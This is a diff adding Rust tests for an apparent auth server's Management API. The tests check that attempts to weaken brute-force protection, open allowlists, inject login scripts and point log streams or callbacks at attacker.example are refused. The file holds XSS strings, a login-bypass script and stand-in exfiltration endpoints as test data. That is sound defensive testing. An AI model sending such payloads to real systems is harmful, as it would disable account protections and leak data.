@@ -20,6 +20,9 @@ use tessera_testkit::{
 use crate::TESSERA;
 use crate::harness::Tally;
 
+/// The database connection's id in the Management API.
+const CONNECTION: &str = tessera_core::DATABASE_CONNECTION_ID;
+
 fn all_scopes() -> Vec<&'static str> {
     MANAGEMENT_SCOPES.iter().map(|(scope, _)| *scope).collect()
 }
@@ -325,6 +328,36 @@ impl Fixture {
                 format!("/client-grants/{grant}"),
                 None,
                 &["delete:client_grants"],
+            ),
+            route(
+                Method::GET,
+                "/connections".into(),
+                None,
+                &["read:connections"],
+            ),
+            route(
+                Method::GET,
+                format!("/connections/{CONNECTION}"),
+                None,
+                &["read:connections"],
+            ),
+            route(
+                Method::PATCH,
+                format!("/connections/{CONNECTION}"),
+                Some(json!({"options": {"disable_signup": false}})),
+                &["update:connections"],
+            ),
+            route(
+                Method::GET,
+                format!("/connections/{CONNECTION}/clients"),
+                None,
+                &["read:connections"],
+            ),
+            route(
+                Method::PATCH,
+                format!("/connections/{CONNECTION}/clients"),
+                Some(json!([{"client_id": app, "status": true}])),
+                &["update:connections"],
             ),
             route(Method::GET, "/users".into(), None, &["read:users"]),
             route(
@@ -2122,5 +2155,273 @@ async fn tenant_settings_keep_known_members_only() {
     tally.status("GET without read:tenant_settings", status, 403);
     let (status, _) = call(server, None, Method::GET, "/tenants/settings", None).await;
     tally.status("GET without a token", status, 401);
+    tally.finish();
+}
+
+/// The answers for what Tessera does not have (`management/absent.rs`), the database
+/// connection and the global client, pushed to change something: weaken the brute-force
+/// block, allow every address, turn sign-up off, run a custom script, take over the login
+/// page, enable MFA policies, smuggle bodies. Every attempt is refused and the settings read
+/// the same afterwards; the brute-force block still holds.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_tessera_does_not_have_cannot_be_switched_on_or_weakened() {
+    let mut tally = Tally::new("management/absent-features");
+    let f = fixture().await;
+    let server = &f.server;
+    let a = f.admin();
+    let settings = [
+        "/attack-protection/brute-force-protection",
+        "/attack-protection/suspicious-ip-throttling",
+        "/attack-protection/breached-password-detection",
+        "/guardian/policies",
+        "/prompts",
+        "/risk-assessments/settings",
+    ];
+    let mut before_settings = Vec::new();
+    for path in settings {
+        before_settings.push(call(server, a, Method::GET, path, None).await);
+    }
+    let before = f.snapshot().await;
+    let connection = format!("/connections/{CONNECTION}");
+    let connection_clients = format!("{connection}/clients");
+    let global = "/clients/tessera_global_client";
+    let deep = (0..200).fold(json!(1), |inner, _| json!({"a": inner}));
+    let attempts: Vec<(Method, &str, Value)> = vec![
+        (
+            Method::PATCH,
+            "/attack-protection/brute-force-protection",
+            json!({"max_attempts": 1_000_000}),
+        ),
+        (
+            Method::PATCH,
+            "/attack-protection/brute-force-protection",
+            json!({"enabled": false}),
+        ),
+        (
+            Method::PATCH,
+            "/attack-protection/brute-force-protection",
+            json!({"allowlist": ["0.0.0.0/0", "::/0"]}),
+        ),
+        (
+            Method::PATCH,
+            "/attack-protection/brute-force-protection",
+            json!({"shields": []}),
+        ),
+        (
+            Method::PATCH,
+            "/attack-protection/suspicious-ip-throttling",
+            json!({"enabled": false}),
+        ),
+        (
+            Method::PATCH,
+            "/attack-protection/suspicious-ip-throttling",
+            json!({"allowlist": ["0.0.0.0/0"]}),
+        ),
+        (
+            Method::PATCH,
+            "/attack-protection/breached-password-detection",
+            json!({"enabled": true}),
+        ),
+        (
+            Method::PUT,
+            "/guardian/policies",
+            json!(["all-applications"]),
+        ),
+        (Method::PUT, "/guardian/policies", json!({"policies": []})),
+        (Method::PATCH, "/prompts", json!({"identifier_first": true})),
+        (
+            Method::PATCH,
+            "/prompts",
+            json!({"universal_login_experience": "classic"}),
+        ),
+        (Method::PATCH, "/prompts", deep.clone()),
+        (
+            Method::PUT,
+            "/prompts/login/custom-text/en",
+            json!({"login": {"title": "<script>alert(1)</script>"}}),
+        ),
+        (
+            Method::PUT,
+            "/prompts/login/partials",
+            json!({"form-content-start": "<script>alert(1)</script>"}),
+        ),
+        (
+            Method::PATCH,
+            "/risk-assessments/settings",
+            json!({"enabled": true}),
+        ),
+        (
+            Method::POST,
+            "/rules",
+            json!({"name": "steal", "script": "function (user, context, cb) { cb(null, user, context); }"}),
+        ),
+        (
+            Method::POST,
+            "/hooks",
+            json!({"name": "x", "script": "module.exports = () => {}", "triggerId": "credentials-exchange"}),
+        ),
+        (
+            Method::POST,
+            "/actions/actions",
+            json!({"name": "x", "code": "exports.onExecutePostLogin = async () => {}", "supported_triggers": [{"id": "post-login", "version": "v3"}]}),
+        ),
+        (
+            Method::POST,
+            "/log-streams",
+            json!({"type": "http", "sink": {"httpEndpoint": "https://attacker.example/collect"}}),
+        ),
+        (
+            Method::POST,
+            "/custom-domains",
+            json!({"domain": "login.attacker.example", "type": "self_managed_certs"}),
+        ),
+        (Method::POST, "/organizations", json!({"name": "attacker"})),
+        (
+            Method::POST,
+            "/event-streams",
+            json!({"destination": {"type": "webhook", "configuration": {"webhook_endpoint": "https://attacker.example"}}}),
+        ),
+        (Method::DELETE, "/guardian/policies", json!({})),
+        (
+            Method::PATCH,
+            &connection,
+            json!({"options": {"disable_signup": true}}),
+        ),
+        (
+            Method::PATCH,
+            &connection,
+            json!({"options": {"brute_force_protection": false}}),
+        ),
+        (
+            Method::PATCH,
+            &connection,
+            json!({"options": {"password_complexity_options": {"min_length": 1}}}),
+        ),
+        (
+            Method::PATCH,
+            &connection,
+            json!({"options": {"customScripts": {"login": "function login(e, p, cb) { cb(null, {user_id: 'admin'}); }"}, "enabledDatabaseCustomization": true}}),
+        ),
+        (
+            Method::PATCH,
+            &connection,
+            json!({"options": {"import_mode": true}}),
+        ),
+        (
+            Method::PATCH,
+            &connection,
+            json!({"name": "Renamed", "strategy": "google-oauth2"}),
+        ),
+        (Method::PATCH, &connection, json!({"options": deep.clone()})),
+        (
+            Method::PATCH,
+            &connection,
+            json!({"enabled_clients": [1, 2]}),
+        ),
+        (
+            Method::PATCH,
+            &connection_clients,
+            json!([{"client_id": f.client_id, "status": false}]),
+        ),
+        (
+            Method::PATCH,
+            &connection_clients,
+            json!([{"client_id": f.client_id, "status": "false"}]),
+        ),
+        (
+            Method::PATCH,
+            &connection_clients,
+            json!([{"client_id": f.client_id, "status": true, "extra": 1}]),
+        ),
+        (
+            Method::PATCH,
+            &connection_clients,
+            json!({"client_id": f.client_id}),
+        ),
+        (
+            Method::PATCH,
+            global,
+            json!({"custom_login_page_on": true, "custom_login_page": "<script>alert(1)</script>"}),
+        ),
+        (
+            Method::PATCH,
+            global,
+            json!({"callbacks": ["https://attacker.example/cb"]}),
+        ),
+        (Method::DELETE, global, json!({})),
+        (
+            Method::POST,
+            "/clients/tessera_global_client/rotate-secret",
+            json!({}),
+        ),
+    ];
+    for (method, path, body) in &attempts {
+        let (status, answer) = call(server, a, method.clone(), path, Some(body)).await;
+        let shown: String = body.to_string().chars().take(70).collect();
+        tally.case(
+            format_args!("{method} {path} {shown} is refused"),
+            (400..=405).contains(&status),
+            format_args!("{status} {answer}"),
+        );
+        let message = answer["message"].as_str().unwrap_or_default();
+        tally.case(
+            format_args!("{method} {path}: the refusal does not echo the body"),
+            !message.contains("<script>")
+                && !message.contains("attacker.example")
+                && !message.contains("cb(null"),
+            message,
+        );
+    }
+    // Duplicated members and wrong media types are read as elsewhere.
+    let (status, _) = send(
+        server,
+        a,
+        Method::PATCH,
+        "/attack-protection/brute-force-protection",
+        "application/json",
+        Some(br#"{"enabled": true, "enabled": false}"#.to_vec()),
+    )
+    .await;
+    tally.status("a settings body naming a member twice", status, 400);
+    let (status, _) = send(
+        server,
+        a,
+        Method::PUT,
+        "/guardian/policies",
+        "text/plain",
+        Some(b"[]".to_vec()),
+    )
+    .await;
+    tally.status("a settings body that is not JSON", status, 415);
+    for (path, (status, body)) in settings.iter().zip(&before_settings) {
+        let after = call(server, a, Method::GET, path, None).await;
+        tally.case(
+            format_args!("{path} reads as before"),
+            *status == 200 && after == (*status, body.clone()),
+            format_args!("{after:?}"),
+        );
+    }
+    f.unchanged(
+        &mut tally,
+        &before,
+        "switching on what Tessera does not have",
+    )
+    .await;
+    // The limit shown is the one the login enforces (`brute_force.rs` attacks the block
+    // itself); the test server runs with the default of `ServerConfig::new`, 10.
+    let (_, brute_force) = call(
+        server,
+        a,
+        Method::GET,
+        "/attack-protection/brute-force-protection",
+        None,
+    )
+    .await;
+    let limit = brute_force["max_attempts"].as_i64().unwrap_or(0);
+    tally.case(
+        "the brute-force limit shown is the server's",
+        limit == 10,
+        format_args!("{brute_force}"),
+    );
     tally.finish();
 }
